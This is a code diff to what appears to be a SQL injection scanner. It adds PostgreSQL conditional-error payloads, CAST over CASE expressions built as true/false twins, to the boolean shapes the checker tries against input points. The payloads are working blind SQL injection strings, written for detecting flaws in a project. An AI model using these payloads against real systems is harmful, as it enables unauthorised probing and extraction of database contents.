@@ -61,6 +61,17 @@ BOOLEAN = [
     ('{v}" AND "{a}"="{a}', '{v}" AND "{a}"="{b}'),
 ]
 
+# A statement whose answer shows only whether it failed (the same page, 200 or 500): a condition
+# that fails only when false. PostgreSQL folds the constant CASE when it plans the statement and
+# refuses to cast 'x' to an integer, so the false twin errors and the true one runs as the plain
+# value would. Sent only where the code names PostgreSQL (elsewhere the cast gives 0 silently).
+CONDITIONAL_ERROR = [
+    ("postgres", ("{v} AND 1=CAST((CASE WHEN {a}={a} THEN '1' ELSE 'x' END) AS INT)",
+                  "{v} AND 1=CAST((CASE WHEN {a}={b} THEN '1' ELSE 'x' END) AS INT)")),
+    ("postgres", ("{v}' AND 1=CAST((CASE WHEN {a}={a} THEN '1' ELSE 'x' END) AS INT) AND '1'='1",
+                  "{v}' AND 1=CAST((CASE WHEN {a}={b} THEN '1' ELSE 'x' END) AS INT) AND '1'='1")),
+]
+
 # Inside a LIKE pattern (`name LIKE '%<input>%'`) the query's own `%'` or `'` follows the input,
 # so `'a'='a` would end as `'a'='a%'` (false) and the shapes above answer "no rows" both ways.
 # `'a' LIKE 'a` stays true whichever of the two follows; the false twin compares two numbers.
@@ -336,7 +347,8 @@ class SqlInjection(PointCheck):
         wildcard = like_value(point)
         # A LIKE pattern whose errors are hidden looks like a point nothing reaches (every answer
         # is "no rows"): on a GET query the wildcard shape is still tried, at one request if nothing.
-        shapes = ([] if gated_out else [(value, t, f, False) for t, f in BOOLEAN]) + \
+        failing = [pair for engine, pair in CONDITIONAL_ERROR if engine in database_engines(ctx.project)]
+        shapes = ([] if gated_out else [(value, t, f, False) for t, f in BOOLEAN + failing]) + \
             ([(wildcard, *LIKE, True)] if wildcard and (like_anyway(point) or not gated_out) else []) + \
             [(account, *ACCOUNT, True) for account in account_values(point)]
         or_shapes = [(value, *OR_PASSWORD, True, {user: account}) for user, account in or_accounts(ctx, point)]
